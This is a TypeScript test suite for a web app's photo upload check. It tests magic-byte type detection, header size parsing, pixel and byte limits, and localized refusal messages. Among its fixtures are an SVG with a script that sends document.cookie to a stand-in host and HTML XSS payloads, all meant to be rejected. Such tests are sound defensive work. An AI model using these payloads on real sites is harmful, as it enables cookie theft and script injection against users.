/**
 * Photos are raster images, verified (web/src/files/raster.ts): the type by the first
 * bytes, the size from the header before decoding, the limits, and the whole path of
 * verifiedRasterImage with a stand-in for the browser's decoder.
 */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import {
  checkRaster,
  type DecodedImage,
  PHOTO_LIMITS,
  RasterError,
  rasterSize,
  STORED_PHOTO_LIMITS,
  sniffRaster,
  verifiedRaster,
  verifiedRasterImage,
} from '../../../../web/src/files/raster.js'
import { setLocale } from '../../../../web/src/i18n/index.js'
import { PHOTO_MAX_SIDE } from '../../../../web/src/record/model.js'

const bytes = (...parts: (number[] | string)[]): Uint8Array<ArrayBuffer> =>
  new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...p].map((c) => c.charCodeAt(0)) : p)))
const be32 = (n: number) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]
const be16 = (n: number) => [(n >>> 8) & 255, n & 255]
const le16 = (n: number) => [n & 255, (n >>> 8) & 255]
const le24 = (n: number) => [n & 255, (n >>> 8) & 255, (n >>> 16) & 255]

/** The start of a PNG of this size: signature and IHDR. */
const png = (width: number, height: number) =>
  bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], be32(13), 'IHDR', be32(width), be32(height), [8, 6, 0, 0, 0])
/** The start of a JPEG: SOI, an APP1 (EXIF) segment, a DQT, then a baseline frame header. */
const jpeg = (width: number, height: number, frame = 0xc0) =>
  bytes(
    [0xff, 0xd8],
    [0xff, 0xe1],
    be16(2 + 6),
    'Exif\0\0',
    [0xff, 0xff, 0xdb],
    be16(2 + 3),
    [0, 1, 2],
    [0xff, frame],
    be16(17),
    [8],
    be16(height),
    be16(width),
    [3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1],
  )
const riff = (chunk: string, body: number[]) => bytes('RIFF', [0, 0, 0, 0], 'WEBP', chunk, [0, 0, 0, 0], body)
const webpLossy = (width: number, height: number) =>
  riff('VP8 ', [0, 0, 0, 0x9d, 0x01, 0x2a, ...le16(width), ...le16(height)])
const webpLossless = (width: number, height: number) => {
  const bits = ((width - 1) | ((height - 1) << 14)) >>> 0
  return riff('VP8L', [0x2f, bits & 255, (bits >>> 8) & 255, (bits >>> 16) & 255, (bits >>> 24) & 255])
}
const webpExtended = (width: number, height: number) =>
  riff('VP8X', [0, 0, 0, 0, ...le24(width - 1), ...le24(height - 1)])

/** An SVG with a script, after a byte order mark, white space and an XML declaration. */
const SVG = bytes(
  [0xef, 0xbb, 0xbf],
  '  <?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/?"+document.cookie)</script></svg>',
)
const HTML = bytes('<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>')

/** Deterministic noise (a linear congruential generator). */
function noise(length: number, seed = 7): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(length)
  let x = seed
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0
    out[i] = x >>> 24
  }
  return out
}

describe('the type by the first bytes', () => {
  test('JPEG (FF D8 FF), PNG (89 50 4E 47 0D 0A 1A 0A) and WebP (RIFF....WEBP)', () => {
    assert.deepEqual(sniffRaster(jpeg(4, 3)), { ok: true, type: 'image/jpeg' })
    assert.deepEqual(sniffRaster(png(4, 3)), { ok: true, type: 'image/png' })
    assert.deepEqual(sniffRaster(webpLossy(4, 3)), { ok: true, type: 'image/webp' })
  })

  test('anything else is refused, saying what it looks like', () => {
    const cases: [Uint8Array, string][] = [
      [new Uint8Array(0), 'empty'],
      [SVG, 'svg'],
      [bytes('<svg/>'), 'svg'],
      [HTML, 'html'],
      [bytes('\n\n<html><script>alert(1)</script>'), 'html'],
      [bytes('GIF89a', [1, 0, 1, 0]), 'gif'],
      [bytes('%PDF-1.7'), 'pdf'],
      [bytes('BM', [0, 0, 0, 0]), 'bmp'],
      [bytes([0x49, 0x49, 0x2a, 0]), 'tiff'],
      [bytes([0, 0, 0, 0x18], 'ftypheic', [0, 0, 0, 0]), 'heif'],
      [bytes([0, 0, 0, 0x18], 'ftypavif'), 'heif'],
      [bytes([0, 0, 0, 0x18], 'ftypisom'), 'unknown'],
      [bytes('RIFF', [0, 0, 0, 0], 'WAVE'), 'unknown'],
      [bytes([0xff, 0xd8]), 'unknown'],
      [bytes([0x89, 0x50, 0x4e, 0x47]), 'unknown'],
      [bytes('<?xml version="1.0"?><note/>'), 'unknown'],
      [noise(4096), 'unknown'],
    ]
    for (const [b, looksLike] of cases) assert.deepEqual(sniffRaster(b), { ok: false, looksLike }, looksLike)
  })
})

describe('the size from the header, before decoding', () => {
  test('PNG IHDR, JPEG frame header after other segments, the three kinds of WebP', () => {
    assert.deepEqual(rasterSize('image/png', png(4000, 3000)), { width: 4000, height: 3000 })
    assert.deepEqual(rasterSize('image/jpeg', jpeg(4032, 3024)), { width: 4032, height: 3024 })
    assert.deepEqual(rasterSize('image/jpeg', jpeg(640, 480, 0xc2)), { width: 640, height: 480 }, 'progressive')
    assert.deepEqual(rasterSize('image/webp', webpLossy(1600, 1200)), { width: 1600, height: 1200 })
    assert.deepEqual(rasterSize('image/webp', webpLossless(1600, 1200)), { width: 1600, height: 1200 })
    assert.deepEqual(rasterSize('image/webp', webpExtended(16000, 1200)), { width: 16000, height: 1200 })
  })

  test('none when the header is cut short, damaged or says 0', () => {
    assert.equal(rasterSize('image/png', png(4, 3).subarray(0, 20)), null)
    assert.equal(rasterSize('image/png', png(0, 3)), null)
    assert.equal(rasterSize('image/jpeg', jpeg(4, 3).subarray(0, 20)), null)
    assert.equal(rasterSize('image/jpeg', bytes([0xff, 0xd8, 0xff, 0xda, 0, 2])), null, 'scan before the frame')
    assert.equal(rasterSize('image/jpeg', bytes([0xff, 0xd8, 0x00, 0x00, 0, 2])), null, 'not a marker')
    assert.equal(rasterSize('image/jpeg', jpeg(0, 3)), null)
    assert.equal(rasterSize('image/webp', riff('VP8 ', [0, 0, 0, 0, 0, 0, 1, 0, 1, 0])), null, 'no start code')
    assert.equal(rasterSize('image/webp', riff('ABCD', [])), null)
  })
})

describe('the limits', () => {
  test('stated in one place: 40 MB, 20,000 px a side, 64 megapixels; a stored photo at most PHOTO_MAX_SIDE', () => {
    assert.deepEqual(PHOTO_LIMITS, { maxBytes: 40_000_000, maxSide: 20_000, maxMegapixels: 64 })
    assert.equal(STORED_PHOTO_LIMITS.maxSide, PHOTO_MAX_SIDE)
  })

  test('a picture larger than the limits is refused from its header', () => {
    assert.deepEqual(checkRaster(png(8000, 8000)), { ok: true, type: 'image/png', width: 8000, height: 8000 })
    const many = checkRaster(png(8001, 8000))
    assert.ok(!many.ok && many.problem.kind === 'too-many-pixels')
    const side = checkRaster(webpExtended(20_001, 100))
    assert.ok(!side.ok && side.problem.kind === 'too-many-pixels')
    const huge = checkRaster(png(0x7fffffff, 0x7fffffff))
    assert.ok(!huge.ok && huge.problem.kind === 'too-many-pixels', 'a "bomb": a few bytes declaring 4.6e18 pixels')
    const stored = checkRaster(jpeg(2401, 100), STORED_PHOTO_LIMITS)
    assert.ok(!stored.ok && stored.problem.kind === 'too-many-pixels')
    const big = checkRaster(new Uint8Array(11), { maxBytes: 10, maxSide: 10, maxMegapixels: 1 })
    assert.ok(!big.ok && big.problem.kind === 'too-large')
  })
})

/** A stand-in for createImageBitmap: the given size, or a failure; counts its calls. */
function decoder(size: { width: number; height: number } | 'fail') {
  const calls: Blob[] = []
  const decode = async (blob: Blob): Promise<DecodedImage> => {
    calls.push(blob)
    if (size === 'fail') throw new Error('The source image could not be decoded.')
    return { ...size, close() {} }
  }
  return { calls, decode }
}

async function refusal(promise: Promise<unknown>): Promise<RasterError> {
  try {
    await promise
  } catch (error) {
    assert.ok(error instanceof RasterError, String(error))
    return error
  }
  assert.fail('not refused')
}

describe('verifiedRaster: checked, decoded, typed by its bytes', () => {
  test('a photo comes back as a Blob of the sniffed type, whatever type it declared', async () => {
    const { calls, decode } = decoder({ width: 4, height: 3 })
    const declared = new Blob([png(4, 3)], { type: 'image/svg+xml' })
    const verified = await verifiedRasterImage(declared, undefined, { decode })
    assert.equal(verified.type, 'image/png')
    assert.equal(verified.blob.type, 'image/png')
    assert.deepEqual([verified.width, verified.height], [4, 3])
    assert.deepEqual(new Uint8Array(await verified.blob.arrayBuffer()), png(4, 3))
    assert.equal(calls[0]?.type, 'image/png', 'the decoder sees the sniffed type too')
    const blob = await verifiedRaster(
      new Blob([jpeg(4, 3)], { type: 'text/html' }),
      { width: 4, height: 3 },
      { decode },
    )
    assert.equal(blob.type, 'image/jpeg')
  })

  test('SVG with script, HTML, random bytes, an empty file: refused before decoding, with the reason', async () => {
    for (const [b, words] of [
      [SVG, /SVG drawing, not a photo: open a JPEG, PNG or WebP photo/],
      [HTML, /web page \(HTML\), not a photo/],
      [noise(10_000), /not a JPEG, PNG or WebP photo/],
      [new Uint8Array(0), /The file is empty/],
      [bytes('GIF89a'), /GIF image, which this app does not open/],
      [bytes([0, 0, 0, 0x18], 'ftypheic'), /HEIC\/AVIF image/],
    ] as const) {
      const { calls, decode } = decoder({ width: 4, height: 3 })
      const error = await refusal(verifiedRaster(new Blob([b], { type: 'image/png' }), undefined, { decode }))
      assert.match(error.message, words)
      assert.equal(calls.length, 0, 'never decoded')
    }
  })

  test('too large a file is refused unread; too many pixels before decoding', async () => {
    const { calls, decode } = decoder({ width: 4, height: 3 })
    const limits = { maxBytes: 1000, maxSide: 100, maxMegapixels: 0.005 }
    const large = await refusal(verifiedRaster(new Blob([new Uint8Array(1001)]), undefined, { decode, limits }))
    assert.match(large.message, /The file is 0 MB; a photo may be at most 0 MB/)
    const pixels = await refusal(verifiedRaster(new Blob([png(100, 100)]), undefined, { decode, limits }))
    assert.match(pixels.message, /100 × 100 px \(0 megapixels\); at most 0.005 megapixels and 100 px a side/)
    assert.equal(calls.length, 0)
    const real = await refusal(verifiedRaster(new Blob([new Uint8Array(53_000_000)])))
    assert.match(real.message, /The file is 53 MB; a photo may be at most 40 MB/)
  })

  test('a picture the browser cannot decode, or decodes at another size than expected, is refused', async () => {
    const failing = decoder('fail')
    const broken = await refusal(verifiedRaster(new Blob([png(4, 3)]), undefined, { decode: failing.decode }))
    assert.match(broken.message, /cannot decode the picture/)
    const other = decoder({ width: 3, height: 4 })
    const mismatch = await refusal(verifiedRaster(new Blob([png(4, 3)]), { width: 4, height: 3 }, other))
    assert.match(mismatch.message, /The picture is 3 × 4 px where 4 × 3 px were expected/)
    const bomb = decoder({ width: 30_000, height: 30_000 })
    const decodedLarge = await refusal(verifiedRaster(new Blob([png(4, 3)]), undefined, bomb))
    assert.equal(decodedLarge.problem.kind, 'too-many-pixels', 'the decoded size is held to the limits too')
    const absent = await refusal(verifiedRaster(new Blob([png(4, 3)])))
    assert.equal(absent.problem.kind, 'cannot-decode', 'no createImageBitmap (node): cannot verify')
  })

  test('the reasons in Spanish, numbers with the decimal comma', async () => {
    setLocale('es')
    try {
      const svg = await refusal(verifiedRaster(new Blob([SVG])))
      assert.equal(svg.message, 'Es un dibujo SVG, no una foto: abra una foto JPEG, PNG o WebP.')
      const large = await refusal(verifiedRaster(new Blob([new Uint8Array(41_234_567)])))
      assert.equal(
        large.message,
        'El archivo ocupa 41,2 MB; una foto puede ocupar como máximo 40 MB. Guárdela más pequeña (como JPEG o con menos píxeles) y abra esa.',
      )
    } finally {
      setLocale('en')
    }
  })
})
